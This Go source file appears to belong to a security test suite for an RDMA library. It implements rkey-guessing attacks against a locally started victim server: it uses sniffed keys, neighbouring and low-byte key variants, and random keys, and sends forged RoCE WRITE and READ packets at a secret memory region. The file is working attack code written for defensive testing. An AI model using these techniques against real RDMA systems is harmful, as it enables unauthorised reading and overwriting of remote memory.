package attack

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"time"

	"github.com/ibex-rdma/ibex/ib"
	_ "github.com/ibex-rdma/ibex/provider/loopback" // loop0: the attacker's own keys
	"github.com/ibex-rdma/ibex/verbs"
	"github.com/ibex-rdma/ibex/wire"
)

// guess is one rkey and address tried.
type guess struct {
	rkey uint32
	va   uint64
	why  string
	read bool // an RDMA READ of 8 bytes instead of a WRITE
}

// rkeyPD: the server's client QP is in one PD, the secret MR in another.
// The attacker tries the secret MR's own rkey (sniffed from its legitimate
// writer), then neighbours of it and of its grant, and random keys.
func (s *Suite) rkeyPD() (Outcome, string) {
	v, err := s.startVictim(nil, "--mode", "server", "--pd", "separate", "--a", AddrWriter.String(), "--b", AddrServer.String())
	if err != nil {
		return failed("victim", err)
	}
	defer v.stop()
	return s.rkeyGuess(v, AddrWriter, AddrServer, nil, true)
}

// rkeyProcess: the client QP and the secret MR share a PD (ReDMArk's V9),
// and the attacker knows keys of its own process: it tries those, their
// neighbours, its grant's neighbours and low-byte variants (ibv_inc_rkey
// changes only 8 bits) and random keys, never the sniffed one.
func (s *Suite) rkeyProcess() (Outcome, string) {
	ctx, err := verbs.Open("loop0")
	if err != nil {
		return failed("the attacker's own device", err)
	}
	defer ctx.Close()
	pd, err := ctx.AllocPD()
	if err != nil {
		return failed("the attacker's own PD", err)
	}
	defer pd.Dealloc()
	var own []uint32
	for range 16 {
		mr, err := pd.AllocMR(64, verbs.AccessLocalWrite|verbs.AccessRemoteWrite)
		if err != nil {
			return failed("the attacker's own MR", err)
		}
		own = append(own, mr.RKey())
		defer mr.Dereg()
	}
	v, err := s.startVictim(nil, "--mode", "server", "--pd", "same", "--a", AddrWriter.String(), "--b", AddrServer.String())
	if err != nil {
		return failed("victim", err)
	}
	defer v.stop()
	return s.rkeyGuess(v, AddrWriter, AddrServer, own, false)
}

// rkeyGuess tries guesses against a server victim whose writer and server
// are on the addresses given, each on a fresh client QP (a refused rkey
// moves the server's QP to ERR). The sniffer's packets since the victim
// started are the attacker's knowledge.
func (s *Suite) rkeyGuess(v *proc, writer, server netip.Addr, own []uint32, useSniffed bool) (Outcome, string) {
	mark := v.mark
	grant, err := v.ask(command{Cmd: "status"})
	if err != nil {
		return failed("status", err)
	}
	var guesses []guess
	secretVA := grant.VA + grant.Len // a neighbouring MR's address (V4)
	w, _, ok := s.sn.Wait(mark, 3*time.Second, func(x *Seen) bool { return from(writer, server)(x) && isWrite(x) })
	switch {
	case ok && w.Decoded:
		secretVA = w.Packet.RETH.VA + slotLen // outside the writer's slot
		if useSniffed {
			guesses = append(guesses, guess{w.Packet.RETH.RKey, secretVA, "sniffed", false}, guess{w.Packet.RETH.RKey, secretVA, "sniffed (READ)", true})
			for d := uint32(1); d <= 8; d++ {
				guesses = append(guesses, guess{w.Packet.RETH.RKey + d, secretVA, "sniffed+", false}, guess{w.Packet.RETH.RKey - d, secretVA, "sniffed-", false})
			}
		}
	case ok:
		// Secured: the RETH cannot be read.
	}
	for _, k := range own {
		guesses = append(guesses, guess{k, secretVA, "own", false}, guess{k + 1, secretVA, "own+1", false}, guess{k - 1, secretVA, "own-1", false})
	}
	for d := uint32(1); d <= 16; d++ {
		guesses = append(guesses, guess{grant.RKey + d, secretVA, "grant+", false}, guess{grant.RKey - d, secretVA, "grant-", false})
	}
	if !useSniffed {
		for b := uint32(1); b < 256; b++ {
			guesses = append(guesses, guess{grant.RKey&^0xff | (grant.RKey+b)&0xff, secretVA, "grant low byte", false})
		}
	}
	for range 16 {
		guesses = append(guesses, guess{s.rng.Uint32(), secretVA, "random", false}, guess{s.rng.Uint32(), secretVA, "random (READ)", true})
	}
	acked, answered := 0, 0
	hit := ""
	for _, g := range guesses {
		a, got, err := s.tryWrite(v, server, g)
		if err != nil && strings.Contains(err.Error(), "encryption required") {
			return Blocked, "the server refuses to connect a client QP without encryption: " + firstLine(err.Error())
		}
		if err != nil {
			return failed("guess", err)
		}
		if got {
			answered++
		}
		if a {
			acked++
			if hit == "" {
				hit = fmt.Sprintf("%s rkey %#x", g.why, g.rkey)
			}
		}
	}
	st, err := v.ask(command{Cmd: "status"})
	if err != nil {
		return failed("status", err)
	}
	d := fmt.Sprintf("%d guesses, %d answered, %d accepted; secret MR changed: %v", len(guesses), answered, acked, st.Secret)
	if hit != "" {
		d += "; first: " + hit
	}
	if acked > 0 || st.Secret {
		return Succeeded, d
	}
	return Blocked, d
}

// tryWrite connects a fresh client QP of the server to a QP the attacker
// plays with its UDP socket and sends one WRITE Only (or READ) with g.
// acked: the server acknowledged it (or sent the data); answered: it
// answered at all.
func (s *Suite) tryWrite(v *proc, server netip.Addr, g guess) (acked, answered bool, err error) {
	qpn, psn := s.rng.Uint32()&0xffffff|1, s.rng.Uint32()&0xffffff
	st, err := v.ask(command{Cmd: "connect", QPN: qpn, PSN: psn, Addr: AddrAttacker.String()})
	if err != nil {
		return false, false, err
	}
	dst := netip.AddrPortFrom(server, wire.UDPPort)
	p := wire.Packet{BTH: wire.BTH{Opcode: ib.RCWriteOnly, PKey: 0xffff, DestQP: st.QPN, AckReq: true, PSN: psn},
		RETH: wire.RETH{VA: g.va, RKey: g.rkey, DMALen: 8}, Payload: []byte("ibexatk!")}
	if g.read {
		p.BTH.Opcode, p.Payload = ib.RCReadRequest, nil
	}
	// The server's QP may take its first packet a moment after connect
	// returns: resend, as a requester would after its timeout.
	for range 5 {
		if err := s.udp.Send(&p, dst); err != nil {
			return false, false, err
		}
		deadline := time.Now().Add(40 * time.Millisecond)
		for time.Now().Before(deadline) {
			var r wire.Packet
			_, err := s.udp.Recv(time.Until(deadline), &r)
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() {
				break
			}
			if err != nil || r.BTH.DestQP != qpn || r.BTH.PSN != psn {
				continue
			}
			switch r.BTH.Opcode {
			case ib.RCAck:
				return r.AETH.Syndrome.IsACK(), true, nil
			case ib.RCReadResponseOnly:
				return true, true, nil
			}
		}
	}
	return false, false, nil
}
